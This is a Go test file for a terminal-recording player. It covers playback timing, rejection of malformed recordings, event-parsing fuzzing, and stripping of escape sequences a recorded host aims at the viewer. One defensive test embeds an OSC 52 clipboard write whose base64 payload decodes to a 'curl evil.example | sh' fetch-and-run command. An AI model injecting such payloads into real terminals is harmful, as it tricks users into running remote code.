package recorder

import (
	"bytes"
	"strings"
	"testing"
	"time"
)

const sampleCast = `{"version":2,"width":80,"height":24,"timestamp":1,"warden":{"session_id":"abcdefgh","user":"alice","login":"root","host":"web01","tenant":"acme","role":"r"}}
[0.5,"o","hello "]
[0.6,"i","x"]
[10.6,"o","world\r\n"]
[10.7,"r","100x40"]
[11.0,"o","bye"]
`

func TestPlayHonoursSpeedAndIdleLimit(t *testing.T) {
	var slept []time.Duration
	var out bytes.Buffer
	h, err := Play(&out, strings.NewReader(sampleCast), PlayOptions{
		Speed: 2, IdleLimit: 2 * time.Second, Sleep: func(d time.Duration) { slept = append(slept, d) },
	})
	if err != nil {
		t.Fatal(err)
	}
	if h.Warden.User != "alice" || h.Width != 80 {
		t.Fatalf("header %+v", h)
	}
	if out.String() != "hello world\r\nbye" {
		t.Fatalf("output %q", out.String())
	}
	// 0.5s/2, then 10.1s capped to 2s then /2, then 0.4s/2.
	want := []time.Duration{250 * time.Millisecond, time.Second, 200 * time.Millisecond}
	if len(slept) != len(want) {
		t.Fatalf("slept %v, want %v", slept, want)
	}
	for i := range want {
		if d := slept[i] - want[i]; d > time.Millisecond || d < -time.Millisecond {
			t.Fatalf("sleep %d = %v, want %v", i, slept[i], want[i])
		}
	}
}

func TestPlayRejectsBadFiles(t *testing.T) {
	for name, in := range map[string]string{
		"empty":     "",
		"not json":  "hello\n",
		"version 1": `{"version":1}` + "\n",
		"bad event": `{"version":2}` + "\n[1,\"o\"]\n",
		"neg time":  `{"version":2}` + "\n[-1,\"o\",\"x\"]\n",
		"code type": `{"version":2}` + "\n[1,2,\"x\"]\n",
	} {
		t.Run(name, func(t *testing.T) {
			if _, err := Play(&bytes.Buffer{}, strings.NewReader(in), PlayOptions{Sleep: func(time.Duration) {}}); err == nil {
				t.Fatal("no error")
			}
		})
	}
}

func FuzzParseEvent(f *testing.F) {
	f.Add([]byte(`[0.5,"o","hello"]`))
	f.Add([]byte(`[1e308,"r","80x24"]`))
	f.Add([]byte(`[]`))
	f.Fuzz(func(t *testing.T, b []byte) {
		ev, err := ParseEvent(b)
		if err == nil && ev.Time < 0 {
			t.Fatalf("negative time accepted: %v", ev.Time)
		}
	})
}

// TestPlayStripsHostSequencesAimedAtTheViewer replays a recording whose host
// wrote the viewer's clipboard (OSC 52), retitled the window and asked for a
// cursor report, one sequence split across two events.
func TestPlayStripsHostSequencesAimedAtTheViewer(t *testing.T) {
	cast := `{"version":2,"width":80,"height":24}
[0.1,"o","$ \u001b[1;32mls\u001b[0m\r\n"]
[0.2,"o","\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007"]
[0.3,"o","\u001b]0;root@prod\u001b"]
[0.4,"o","\\\u001b[6n\u009d52;c;eA==\u009cdone"]
`
	var out bytes.Buffer
	if _, err := Play(&out, strings.NewReader(cast), PlayOptions{Sleep: func(time.Duration) {}}); err != nil {
		t.Fatal(err)
	}
	if got, want := out.String(), "$ \x1b[1;32mls\x1b[0m\r\ndone"; got != want {
		t.Fatalf("played %q, want %q", got, want)
	}
}
